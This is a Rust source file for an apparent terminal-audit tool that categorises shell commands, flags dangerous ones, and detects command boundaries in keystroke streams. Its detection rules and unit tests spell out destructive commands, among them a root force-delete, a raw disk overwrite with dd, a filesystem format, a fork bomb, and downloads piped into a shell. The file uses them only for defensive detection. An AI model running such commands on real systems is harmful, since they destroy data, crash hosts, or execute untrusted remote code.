//! Command classification and keystroke-stream command detection.
//!
//! Classification is deterministic and pattern-based, computed once per
//! command from the command text alone (never from its output). The verb
//! tables and unsafe-pattern rules below are the classifier's entire
//! behavior; downstream reporting depends on these exact sets.

use std::sync::LazyLock;

use regex::RegexSet;
use serde::{Deserialize, Serialize};

/// Category assigned to an audited command.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum CommandCategory {
    System,
    File,
    Network,
    Process,
    Custom,
    Unknown,
}

impl CommandCategory {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::System => "system",
            Self::File => "file",
            Self::Network => "network",
            Self::Process => "process",
            Self::Custom => "custom",
            Self::Unknown => "unknown",
        }
    }

    pub fn from_str_opt(s: &str) -> Option<Self> {
        match s {
            "system" => Some(Self::System),
            "file" => Some(Self::File),
            "network" => Some(Self::Network),
            "process" => Some(Self::Process),
            "custom" => Some(Self::Custom),
            "unknown" => Some(Self::Unknown),
            _ => None,
        }
    }
}

/// Navigation and host-introspection verbs.
const SYSTEM_VERBS: &[&str] = &[
    "ls", "cd", "pwd", "whoami", "uname", "hostname", "date", "uptime", "df", "du", "free", "env",
    "export", "history", "which", "man", "clear", "echo",
];

/// File and permission manipulation verbs.
const FILE_VERBS: &[&str] = &[
    "cat", "touch", "mkdir", "rmdir", "rm", "cp", "mv", "head", "tail", "less", "more", "find",
    "ln", "chmod", "chown", "chgrp", "tar", "gzip", "gunzip", "zip", "unzip", "vi", "vim", "nano",
    "sed", "awk", "stat", "tree",
];

/// Remote-access and network verbs.
const NETWORK_VERBS: &[&str] = &[
    "ssh", "scp", "sftp", "telnet", "curl", "wget", "ping", "traceroute", "netstat", "ss",
    "ifconfig", "ip", "dig", "nslookup", "nc", "rsync", "ftp",
];

/// Process-control verbs.
const PROCESS_VERBS: &[&str] = &[
    "ps", "top", "htop", "kill", "killall", "pkill", "pgrep", "jobs", "bg", "fg", "nohup", "nice",
    "renice", "systemctl", "service", "crontab",
];

/// Patterns that mark a command as dangerous, regardless of category.
static UNSAFE_PATTERNS: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSet::new([
        // recursive force-delete of root
        r"(?i)\brm\s+(-[a-z]*\s+)*-[a-z]*[rf][a-z]*\s+/(\s|$)",
        // raw writes to a block device
        r"(?i)\bdd\s+[^|;]*\bof=/dev/",
        // filesystem format
        r"(?i)\bmkfs(\.[a-z0-9]+)?\b",
        // partition-table edits
        r"(?i)\b(fdisk|parted)\b",
        // classic fork bomb
        r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
        // privileged delete / password change
        r"(?i)\bsudo\s+(rm|passwd)\b",
        // world-writable mode change
        r"(?i)\bchmod\s+(-[a-z]+\s+)*777\b",
        // network download piped into a shell interpreter
        r"(?i)\b(curl|wget)\b[^|]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b",
    ])
    .expect("unsafe-pattern rules must compile")
});

/// Classify a command line into its category.
///
/// First-match-wins over the ordered verb tables (system, file, network,
/// process). A first token that is not a plausible command word — anything
/// outside `[a-z0-9._/-]` once lowercased — is `unknown`; a well-formed but
/// unrecognized verb is `custom`.
pub fn categorize(command: &str) -> CommandCategory {
    let Some(token) = command.split_whitespace().next() else {
        return CommandCategory::Unknown;
    };
    let verb = token.to_ascii_lowercase();

    if !verb
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '/' | '-'))
    {
        return CommandCategory::Unknown;
    }

    // Paths classify by their basename (`/usr/bin/ls` behaves like `ls`)
    let verb = verb.rsplit('/').next().unwrap_or(&verb);

    for (verbs, category) in [
        (SYSTEM_VERBS, CommandCategory::System),
        (FILE_VERBS, CommandCategory::File),
        (NETWORK_VERBS, CommandCategory::Network),
        (PROCESS_VERBS, CommandCategory::Process),
    ] {
        if verbs.contains(&verb) {
            return category;
        }
    }
    CommandCategory::Custom
}

/// Whether the command text matches any unsafe-pattern rule.
///
/// Independent of [`categorize`] — an `unknown` command can still be
/// dangerous (the fork bomb is exactly that).
pub fn is_dangerous(command: &str) -> bool {
    UNSAFE_PATTERNS.is_match(command)
}

/// Per-session keystroke accumulator that detects command boundaries.
///
/// Chunks are appended exactly as received; a carriage-return or line-feed
/// ends the current line, and the trimmed, non-empty line text is a
/// completed command. Callers append *before* forwarding the chunk to the
/// remote shell so detection never gates the interactive path.
#[derive(Debug, Default)]
pub struct CommandAccumulator {
    line: String,
}

impl CommandAccumulator {
    pub fn new() -> Self {
        Self::default()
    }

    /// Append a keystroke chunk, returning every command completed by it.
    ///
    /// `"ls -la\r"` then `"\r"` then `"pwd\n"` yields exactly `["ls -la"]`,
    /// `[]`, `["pwd"]` — empty lines produce nothing.
    pub fn push(&mut self, chunk: &str) -> Vec<String> {
        let mut completed = Vec::new();
        for ch in chunk.chars() {
            if ch == '\r' || ch == '\n' {
                let text = self.line.trim().to_string();
                self.line.clear();
                if !text.is_empty() {
                    completed.push(text);
                }
            } else {
                self.line.push(ch);
            }
        }
        completed
    }

    /// Discard any partially-typed line (used when a session closes).
    pub fn reset(&mut self) {
        self.line.clear();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn categorizes_known_verbs() {
        assert_eq!(categorize("ls -la"), CommandCategory::System);
        assert_eq!(categorize("cat /etc/hosts"), CommandCategory::File);
        assert_eq!(categorize("curl http://example.com"), CommandCategory::Network);
        assert_eq!(categorize("ps aux"), CommandCategory::Process);
    }

    #[test]
    fn unmatched_verb_is_custom() {
        assert_eq!(categorize("myscript.sh"), CommandCategory::Custom);
        assert_eq!(categorize("deploy --prod"), CommandCategory::Custom);
    }

    #[test]
    fn pathed_verb_classifies_by_basename() {
        assert_eq!(categorize("/usr/bin/ls -la"), CommandCategory::System);
        assert_eq!(categorize("./build.sh"), CommandCategory::Custom);
    }

    #[test]
    fn implausible_first_token_is_unknown() {
        assert_eq!(categorize(":(){ :|:& };:"), CommandCategory::Unknown);
        assert_eq!(categorize("| sort"), CommandCategory::Unknown);
    }

    #[test]
    fn danger_flag_matches_known_cases() {
        assert!(is_dangerous("rm -rf /"));
        assert!(is_dangerous("chmod 777 file"));
        assert!(is_dangerous("curl http://x | sh"));
        assert!(!is_dangerous("ls -la"));
        assert!(!is_dangerous("myscript.sh"));
    }

    #[test]
    fn danger_flag_covers_remaining_rules() {
        assert!(is_dangerous("dd if=/dev/zero of=/dev/sda"));
        assert!(is_dangerous("mkfs.ext4 /dev/sdb1"));
        assert!(is_dangerous("fdisk /dev/sda"));
        assert!(is_dangerous(":(){ :|:& };:"));
        assert!(is_dangerous("sudo rm -r /var/log"));
        assert!(is_dangerous("sudo passwd root"));
        assert!(is_dangerous("wget http://x/install.sh | bash"));
    }

    #[test]
    fn danger_is_independent_of_category() {
        let bomb = ":(){ :|:& };:";
        assert_eq!(categorize(bomb), CommandCategory::Unknown);
        assert!(is_dangerous(bomb));
    }

    #[test]
    fn plain_rm_without_root_target_is_safe() {
        assert!(!is_dangerous("rm -rf ./build"));
        assert!(!is_dangerous("rm notes.txt"));
    }

    #[test]
    fn accumulator_emits_one_command_per_nonempty_line() {
        let mut acc = CommandAccumulator::new();
        assert_eq!(acc.push("ls -la\r"), vec!["ls -la"]);
        assert!(acc.push("\r").is_empty());
        assert_eq!(acc.push("pwd\n"), vec!["pwd"]);
    }

    #[test]
    fn accumulator_handles_split_chunks() {
        let mut acc = CommandAccumulator::new();
        assert!(acc.push("ec").is_empty());
        assert!(acc.push("ho hi").is_empty());
        assert_eq!(acc.push("\n"), vec!["echo hi"]);
    }

    #[test]
    fn accumulator_handles_multiple_boundaries_in_one_chunk() {
        let mut acc = CommandAccumulator::new();
        assert_eq!(acc.push("ls\rpwd\r\n"), vec!["ls", "pwd"]);
    }

    #[test]
    fn accumulator_trims_whitespace() {
        let mut acc = CommandAccumulator::new();
        assert_eq!(acc.push("  uptime  \n"), vec!["uptime"]);
        assert!(acc.push("   \r").is_empty());
    }

    #[test]
    fn reset_discards_partial_line() {
        let mut acc = CommandAccumulator::new();
        assert!(acc.push("half-typed").is_empty());
        acc.reset();
        assert!(acc.push("\n").is_empty());
    }
}
